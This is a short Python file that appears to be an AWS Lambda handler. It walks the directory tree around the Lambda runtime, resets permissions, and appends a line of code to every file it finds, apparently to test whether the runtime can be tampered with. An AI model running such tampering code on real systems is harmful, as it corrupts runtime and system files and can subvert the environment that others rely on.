import os


def handler(event, context):
    for folder, _, names in os.walk(os.path.dirname(os.environ["LAMBDA_RUNTIME_DIR"])):
        os.chmod(folder, 0o755)
        for name in names:
            path = os.path.join(folder, name)
            os.chmod(path, 0o644)
            with open(path, "ab") as file:
                file.write(b"\nprint('changed')\n")
